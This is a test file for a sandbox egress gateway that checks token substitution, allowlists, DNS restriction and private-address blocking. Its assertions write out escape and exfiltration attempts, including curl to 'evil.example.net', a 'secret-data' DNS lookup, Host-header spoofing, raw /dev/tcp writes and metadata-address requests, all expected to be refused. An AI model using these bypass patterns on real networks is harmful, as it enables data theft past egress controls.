// shoal-egress between guests and an Internet in network namespaces: what gets out, with what in
// it, and what does not. Real rules, real clients (curl, openssl), real TLS servers.
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { spawn } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import { createInterface } from "node:readline";
import { join } from "node:path";
import { GUESTS, inNamespace, inside, Net, OTHER_TOKEN, TOKEN, VALUE } from "./net.mjs";

inNamespace("egress gateway", import.meta.url);

const API = "https://api.example.com";
const net = new Net();
const skip = !inside;

function policies() {
  net.policy("a", "--allow", "api.example.com", "--allow", "*.example.com", "--allow", "203.0.113.6",
    "--secret", TOKEN, VALUE, "--to", "api.example.com", "--secret", OTHER_TOKEN, "second-value");
  net.policy("b", "--secret", TOKEN, VALUE, "--to", "api.example.com");
}

describe("gateway", { skip, timeout: 300_000 }, () => {
  before(async () => {
    await net.start();
    policies();
  });
  after(() => net.stop());

  it("replaces tokens in header values and bodies, not in the URL", () => {
    const got = net.echo("a", `${API}/x?k=${TOKEN}`, "-H", `Authorization: Bearer ${TOKEN}`, "--data", `{"key":"${TOKEN}"}`);
    assert.equal(got.headers.authorization, `Bearer ${VALUE}`);
    assert.equal(got.body, `{"key":"${VALUE}"}`);
    assert.equal(got.headers["content-length"], `${got.body.length}`);
    assert.equal(got.url, `/x?k=${TOKEN}`);
  });

  it("replaces tokens in credentials that git and others encode", () => {
    const got = net.echo("a", API, "-u", `user:${TOKEN}`);
    assert.equal(Buffer.from(got.headers.authorization.split(" ")[1], "base64").toString(), `user:${VALUE}`);
  });

  it("replaces tokens in chunked and in long bodies", () => {
    const chunked = net.run("a", "sh", ["-c", `printf 'a %s b' ${TOKEN} | curl -sS --cacert ${net.dir}/guest.pem -T - ${API}/c`]);
    assert.equal(JSON.parse(chunked.stdout).body, `a ${VALUE} b`);
    const long = net.run("a", "sh", ["-c", `{ head -c 1500000 /dev/zero | tr '\\0' o; printf %s ${TOKEN}; } > /run/long;` +
      `curl -sS --cacert ${net.dir}/guest.pem -H 'Content-Type: text/plain' --data-binary @/run/long ${API}/l`]);
    const got = JSON.parse(long.stdout);
    assert.equal(got.bytes, 1500000 + VALUE.length);
    assert.ok(got.body.endsWith(`oo${VALUE}`));
    assert.equal(got.headers["transfer-encoding"], "chunked");
  });

  it("sends the sealed token to hosts that the secret does not name", () => {
    const got = net.echo("a", "https://a.b.example.com/", "-H", `A: ${TOKEN}`, "-H", `B: ${OTHER_TOKEN}`);
    assert.equal(got.headers.a, TOKEN);
    assert.equal(got.headers.b, "second-value");
    const other = net.echo("b", "https://other.example.org/", "-H", `A: ${TOKEN}`);
    assert.equal(other.headers.a, TOKEN);
    // a token of another sandbox is only text
    assert.equal(net.echo("b", API, "-H", `A: ${OTHER_TOKEN}`).headers.a, OTHER_TOKEN);
  });

  it("opens TLS only where a secret may go, and leaves the rest alone", () => {
    const issuer = (guest, host) => net.run(guest, "sh", ["-c",
      `echo | openssl s_client -connect ${host}:443 -servername ${host} 2>/dev/null | openssl x509 -noout -issuer`]).stdout;
    assert.match(issuer("b", "api.example.com"), /Shoal egress/);
    assert.match(issuer("b", "other.example.org"), /ca of the test/);
    assert.match(issuer("c", "api.example.com"), /ca of the test/);
  });

  it("never replaces tokens in plain HTTP", () => {
    assert.equal(net.echo("a", "http://api.example.com/", "-H", `A: ${TOKEN}`).headers.a, TOKEN);
    assert.equal(net.echo("b", "http://api.example.com/", "-H", `A: ${TOKEN}`).headers.a, TOKEN);
  });

  it("lets HTTP/2 clients fall back, and does not touch HTTP/2 where TLS passes", () => {
    assert.equal(net.echo("a", "--http2", API, "-H", `A: ${TOKEN}`).version, "1.1");
    assert.equal(net.echo("a", "--http2", API, "-H", `A: ${TOKEN}`).headers.a, VALUE);
    assert.equal(net.echo("b", "--http2", "https://other.example.org/").version, "2.0");
  });

  it("is a proxy, too: CONNECT and plain targets", () => {
    const proxy = ["-x", "http://10.201.0.1:3128"];
    assert.equal(net.echo("a", ...proxy, API, "-H", `A: ${TOKEN}`).headers.a, VALUE);
    assert.equal(net.echo("a", ...proxy, "http://api.example.com/p?q", "-H", `A: ${TOKEN}`).headers.a, TOKEN);
    assert.equal(net.echo("a", ...proxy, "http://api.example.com/p?q").url, "/p?q");
    const refused = net.curl("a", ...proxy, "https://evil.example.net/");
    assert.notEqual(refused.status, 0);
    assert.match(refused.stderr, /403/);
    const port = net.curl("a", ...proxy, "https://api.example.com:8443/");
    assert.match(port.stderr, /403/);
    const plain = net.curl("a", ...proxy, "-o", "/dev/null", "-w", "%{http_code}", "http://evil.example.net/");
    assert.equal(plain.stdout, "403");
    const odd = net.curl("a", "-o", "/dev/null", "-w", "%{http_code}", "http://10.201.0.1:3128/");
    assert.equal(odd.stdout, "400");
  });

  it("refuses what is not on the allowlist, with every trick", () => {
    const seen = net.seen.length;
    const fails = (...args) => {
      const result = net.curl("a", "--max-time", "8", ...args);
      assert.notEqual(result.status, 0, `${args}: ${result.stdout}`);
    };
    fails("https://evil.example.net/");
    fails("https://203.0.113.5/", "-k"); // no server name
    fails("https://203.0.113.5:8443/", "-k");
    fails("https://api.example.com:8443/");
    fails("http://203.0.113.5:8080/");
    fails("-6", "https://[2001:db8::1]/", "-k");
    fails("telnet://203.0.113.5:443"); // no TLS at all
    assert.equal(net.run("a", "curl", ["-sS", "--max-time", "8", "--noproxy", "*", "-k", "https://evil.example.net/"],
      { env: {} }).status === 0, false);
    // plain HTTP to a host that is not listed, by address and by a Host that lies
    assert.equal(net.curl("a", "-o", "/dev/null", "-w", "%{http_code}", "http://203.0.113.5/").stdout, "403");
    assert.equal(net.curl("a", "-o", "/dev/null", "-w", "%{http_code}", "-H", "Host: evil.example.net",
      "http://203.0.113.5/").stdout, "403");
    // a listed name with an address of one's own: the name wins
    const got = net.echo("a", "--connect-to", "api.example.com:443:203.0.113.6:443", `${API}/pinned`);
    assert.equal(got.url, "/pinned");
    // another host inside of an opened connection
    assert.equal(net.curl("a", "-o", "/dev/null", "-w", "%{http_code}", "-H", "Host: evil.example.net", API).stdout, "421");
    net.run("a", "sh", ["-c", "echo x | timeout 2 openssl s_client -quiet -connect 203.0.113.7:443 -noservername"]);
    net.run("a", "sh", ["-c", "echo quic | timeout 2 bash -c 'cat > /dev/udp/203.0.113.5/443'"]);
    assert.notEqual(net.run("a", "ping", ["-c1", "-W1", "203.0.113.5"]).status, 0);
    assert.deepEqual(net.strays(), []);
    assert.deepEqual(net.seen.slice(seen).filter((what) => what.tcp === "203.0.113.6:443"), []);
  });

  it("answers for listed names only, and no other name server is reached", () => {
    const ask = (server, name) => net.run("a", "python3", ["-c", `
import socket, struct, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
q = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"".join(bytes([len(l)]) + l.encode() for l in "${name}".split(".")) + b"\\0\\0\\1\\0\\1"
try:
  s.sendto(q, ("${server}", 53)); r = s.recv(600); print(r[3] & 15, r[7])
except OSError as e: print("none")
`]).stdout.trim();
    assert.equal(ask("10.201.0.1", "api.example.com"), "0 1");
    assert.equal(ask("10.201.0.1", "secret-data.evil.example.net"), "5 0");
    assert.equal(ask("203.0.113.6", "api.example.com"), "none");
    assert.equal(ask("203.0.113.53", "api.example.com"), "none");
    assert.ok(!net.seen.some((what) => what.dns?.includes("secret-data")));
    assert.deepEqual(net.strays(), []);
    assert.notEqual(net.run("a", "bash", ["-c", "exec 3<>/dev/tcp/10.201.0.1/53"]).status, 0);
  });

  it("refuses private addresses, also by name", () => {
    for (const host of ["inside.example.com", "meta.example.com"]) {
      assert.match(net.curl("a", "-w", "%{http_code}", `https://${host}/`).stdout, /private or reserved.*403/s);
      assert.match(net.curl("a", "-x", "http://10.201.0.1:3128", `https://${host}/`).stderr, /403/);
    }
    assert.equal(net.curl("a", "-o", "/dev/null", "-w", "%{http_code}", "http://inside.example.com/").stdout, "403");
    assert.match(net.curl("a", "http://meta.example.com/").stdout, /endpoints/, "the guest's own service, not the machine's");
    assert.match(net.curl("b", "-x", "http://10.201.0.5:3128", "https://127.0.0.1/").stderr, /403/);
    assert.match(net.curl("b", "-x", "http://10.201.0.5:3128", "https://169.254.169.254/").stderr, /403/);
    assert.notEqual(net.curl("b", "--max-time", "5", "https://10.201.0.1/").status, 0);
  });

  it("does not open what the server cannot prove to be", () => {
    const before = net.ctl("stats");
    const result = net.curl("a", "-w", "%{http_code}", "https://untrusted.example.com/", "-H", `A: ${OTHER_TOKEN}`);
    assert.match(result.stdout, /certificate of the server is not trusted.*502/s);
    const stats = net.ctl("stats");
    assert.equal(stats.unverified - before.unverified, 1);
    assert.equal(stats.upstream_failed - before.upstream_failed, 1);
    assert.match(net.curl("a", "-w", "%{http_code}", "https://nowhere.example.com/").stderr, /resolve/);
    assert.match(net.curl("a", "-x", "http://10.201.0.1:3128", "https://nowhere.example.com/").stderr, /502/);
  });

  it("leaves guests without an allowlist their other ways", () => {
    assert.equal(net.curl("b", "-k", "https://203.0.113.5:8443/").status, 0);
    assert.equal(net.curl("b", "-k", "https://203.0.113.5/").status, 0);
    assert.match(net.curl("b", "--max-time", "5", "telnet://203.0.113.7:443").stdout, /SSH-2.0/); // it speaks first
    assert.equal(net.curl("c", "https://api.example.com/").status, 0);
    net.seen = net.seen.filter((what) => !what.stray);
  });

  it("passes events and raw streams at once", async () => {
    const child = spawn("ip", ["netns", "exec", "a", "curl", "-sSN", "--cacert", join(net.dir, "guest.pem"),
      "--resolve", "api.example.com:443:203.0.113.5", `${API}/sse`]);
    const lines = createInterface({ input: child.stdout });
    let n = 0;
    await new Promise((done) => lines.on("line", (line) => {
      if (!line) return;
      assert.equal(line, `data: ${n++}`);
      // the next one is sent only when this one has come: nothing on the way keeps it
      if (n < 5) net.servers.kill("SIGUSR2") || process.kill(net.servers.pid, "SIGUSR2");
      else done();
    }));
    child.kill();
    const raw = net.run("a", "sh", ["-c", `{ printf 'GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\nAuthorization: ${TOKEN}\\r\\n` +
      `Connection: Upgrade\\r\\nUpgrade: echo\\r\\n\\r\\n'; sleep 1; printf 'raw ${TOKEN} bytes\\n'; sleep 1; } | ` +
      `openssl s_client -quiet -CAfile ${net.dir}/guest.pem -connect 203.0.113.5:443 -servername api.example.com 2>/dev/null`]);
    assert.match(raw.stdout, new RegExp(`authorization=${VALUE}`));
    assert.match(raw.stdout, new RegExp(`raw ${TOKEN} bytes`));
  });

  it("loses nothing that comes right before an end", () => {
    const many = net.run("a", "sh", ["-c", `curl -sS --cacert ${net.dir}/guest.pem ${API}/many | wc -c`]);
    assert.equal(many.stdout.trim(), "4000000", many.stderr);
    const plain = net.run("a", "sh", ["-c", "curl -sS http://api.example.com/many | wc -c"]);
    assert.equal(plain.stdout.trim(), "4000000", plain.stderr);
    // a client that says at once that no more will come
    const half = net.run("a", "python3", ["-c", `
import socket
s = socket.create_connection(("203.0.113.5", 80))
body = b"".join(b"64\\r\\n" + b"y" * 100 + b"\\r\\n" for _ in range(20000)) + b"0\\r\\n\\r\\n"
s.sendall(b"POST / HTTP/1.1\\r\\nHost: api.example.com\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n" + body)
s.shutdown(socket.SHUT_WR)
got = b""
while True:
  part = s.recv(65536)
  if not part: break
  got += part
print(got.decode())
`]);
    assert.match(half.stdout, /"bytes":2000000/, half.stderr);
  });

  it("does not keep connections on which nothing is said", async () => {
    await Promise.all(["203.0.113.5:80", "203.0.113.5:443", "10.201.0.1:3128"].map((to) => new Promise((done, fail) => {
      const child = spawn("ip", ["netns", "exec", "a", "timeout", "60", "bash", "-c", `exec 3<>/dev/tcp/${to.replace(":", "/")}; cat <&3`]);
      child.on("exit", (code) => (code === 0 ? done() : fail(new Error(`${to}: ${code}`))));
    })));
  });

  it("takes other certificates and private networks while it runs", () => {
    const status = (host) => net.curl("a", "-o", "/dev/null", "-w", "%{http_code}", `https://${host}/`).stdout;
    const both = join(net.dir, "both.pem");
    writeFileSync(both, readFileSync(join(net.dir, "ca.crt"), "utf8") + readFileSync(join(net.dir, "unknown.crt"), "utf8"));
    assert.equal(status("untrusted.example.com"), "502");
    net.ctl("trust", both);
    assert.equal(status("untrusted.example.com"), "200");
    net.ctl("trust", join(net.dir, "ca.crt"));
    assert.equal(status("untrusted.example.com"), "502");
    assert.throws(() => net.ctl("trust", join(net.dir, "server.key")), /no certificates/);
    assert.equal(status("inside.example.com"), "403");
    net.ctl("private", "10.201.0.1/32");
    assert.equal(status("inside.example.com"), "502"); // it may, but nothing listens there
    assert.equal(status("meta.example.com"), "403");
    net.ctl("private");
    assert.equal(status("inside.example.com"), "403");
  });

  it("passes 100 MB up in little memory", () => {
    net.echo("a", API);
    const before = net.memory();
    const got = net.run("a", "sh", ["-c", `head -c 104857600 /dev/zero > /run/big; curl -sS --cacert ${net.dir}/guest.pem ` +
      `-H 'Content-Type: text/plain' -H 'A: ${TOKEN}' --data-binary @/run/big ${API}/big`]);
    assert.equal(JSON.parse(got.stdout).bytes, 104857600);
    assert.equal(JSON.parse(got.stdout).headers.a, VALUE);
    const grown = net.memory() - before;
    assert.ok(grown < 16e6, `the gateway grew by ${grown} bytes`);
    console.log(`# 100 MB intercepted: memory of the gateway grew by ${Math.round(grown / 1024)} KiB`);
  });

  it("holds 200 TLS connections at once", () => {
    const result = net.run("a", process.execPath, ["-e", `
      const tls = require("tls"), fs = require("fs");
      const ca = fs.readFileSync("${net.dir}/guest.pem");
      let open = 0, right = 0; const sockets = [];
      for (let i = 0; i < 200; i++) {
        const s = tls.connect({ host: "203.0.113.5", port: 443, servername: "api.example.com", ca }, () => {
          if (++open === 200) for (const t of sockets) t.write("GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\nA: ${TOKEN}\\r\\n\\r\\n");
        });
        s.on("data", (d) => { if (String(d).includes("${VALUE}")) { right++; s.end(); } });
        s.on("close", () => { if (right === 200) { console.log(open, right); process.exit(0); } });
        s.on("error", (e) => console.error(e.message));
        sockets.push(s);
      }`], { timeout: 100_000 });
    assert.equal(result.stdout.trim(), "200 200", result.stderr);
  });

  it("survives nonsense", () => {
    const send = (guest, to, text) => net.run(guest, "timeout", ["5", "bash", "-c", `exec 3<>/dev/tcp/${to.replace(":", "/")}; ` +
      `printf '${text}' >&3; timeout 3 cat <&3 | head -c 3000`]).stdout;
    assert.match(send("a", "203.0.113.5:80", "GET / HTTP/1.1\\nHost: api.example.com\\n\\n"), /400 Bad Request/);
    assert.match(send("a", "203.0.113.5:80", "POST / HTTP/1.1\\r\\nHost: api.example.com\\r\\nContent-Length: 1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"), /400/);
    send("a", "203.0.113.5:443", "\\x16\\x03\\x01\\xff\\xff");
    send("a", "203.0.113.5:443", "\\x16\\x03\\x01\\x00\\x04\\x01\\xff\\xff\\xff");
    send("a", "10.201.0.1:3128", "CONNECT api.example.com:443 HTTP/1.1\\r\\n\\r\\nnonsense");
    send("a", "10.201.0.1:3128", "CONNECT [::1]:443 HTTP/1.1\\r\\n\\r\\n");
    send("a", "10.201.0.1:3128", "\\x05\\x01\\x00");
    net.run("a", "sh", ["-c", `head -c 300000 /dev/urandom | timeout 3 openssl s_client -quiet -connect 203.0.113.5:443 -servername api.example.com 2>/dev/null`]);
    net.run("a", "bash", ["-c", "head -c 300000 /dev/urandom | timeout 3 bash -c 'cat > /dev/tcp/203.0.113.5/443'"]);
    assert.equal(net.echo("a", API, "-H", `A: ${TOKEN}`).headers.a, VALUE);
  });

  it("closes what went to an address under a permitted name once there is an allowlist", async () => {
    const child = spawn("ip", ["netns", "exec", "b", "openssl", "s_client", "-quiet", "-connect", "203.0.113.6:443",
      "-servername", "other.example.org"], { stdio: ["pipe", "pipe", "ignore"] });
    const answered = new Promise((done) => child.stdout.once("data", done));
    child.stdin.write("GET / HTTP/1.1\r\nHost: x\r\n\r\n");
    await answered;
    const ended = new Promise((done) => child.on("exit", done));
    net.policy("b", "--allow", "other.example.org", "--secret", TOKEN, VALUE, "--to", "api.example.com");
    await ended;
    policies();
  });

  it("obeys a new policy at once, also on connections that are open", async () => {
    const child = spawn("ip", ["netns", "exec", "a", "curl", "-sSN", "--cacert", join(net.dir, "guest.pem"),
      "--resolve", "api.example.com:443:203.0.113.5", `${API}/sse`]);
    await new Promise((done) => child.stdout.once("data", done));
    net.policy("a", "--allow", "other.example.org", "--secret", TOKEN, "rotated-value");
    await new Promise((done) => child.on("exit", done));
    assert.notEqual(net.curl("a", API).status, 0);
    assert.equal(net.echo("a", "https://other.example.org/", "-H", `A: ${TOKEN}`).headers.a, "rotated-value");
    policies();
    net.ctl("drop", GUESTS.b);
    assert.notEqual(net.curl("b", "--max-time", "5", API).status, 0);
    policies();
    net.ctl("mark");
    policies();
    net.ctl("sweep");
    assert.equal(net.ctl("stats").guests, 2);
  });

  it("keeps the value of a secret whose store is gone, for the guest that had it", () => {
    policies();
    net.policy("a", "--allow", "*.example.com", "--kept", TOKEN);
    net.policy("a", "--allow", "*.example.com", "--kept", TOKEN); // told again: by another daemon
    assert.equal(net.echo("a", API, "-H", `A: ${TOKEN}`).headers.a, VALUE);
    assert.equal(net.echo("a", "https://a.b.example.com/", "-H", `A: ${TOKEN}`).headers.a, TOKEN, "its hosts stay, too");
    net.policy("b", "--kept", OTHER_TOKEN);
    assert.equal(net.echo("b", API, "-H", `A: ${OTHER_TOKEN}`).headers.a, OTHER_TOKEN, "what it never had it does not get");
    // a deleted one is gone, whatever happens to its store then
    net.policy("b", "--kept", TOKEN);
    assert.equal(net.echo("b", API, "-H", `A: ${TOKEN}`).headers.a, TOKEN);
    net.ctl("drop", GUESTS.a);
    net.policy("a", "--allow", "*.example.com", "--kept", TOKEN);
    assert.equal(net.echo("a", API, "-H", `A: ${TOKEN}`).headers.a, TOKEN, "the next guest of the address has nothing");
    policies();
  });

  it("logs what it refused and no secret", () => {
    assert.ok(net.log.some((line) => line.includes("egress.refused") && line.includes("evil.example.net")));
    assert.ok(!net.log.some((line) => line.includes("osb_sealed") || line.includes(VALUE)));
    const stats = net.ctl("stats");
    assert.ok(stats.intercepted > 200 && stats.spliced > 2 && stats.replaced > 200 && stats.refused > 5, JSON.stringify(stats));
    assert.equal(stats.open, 0);
  });
});
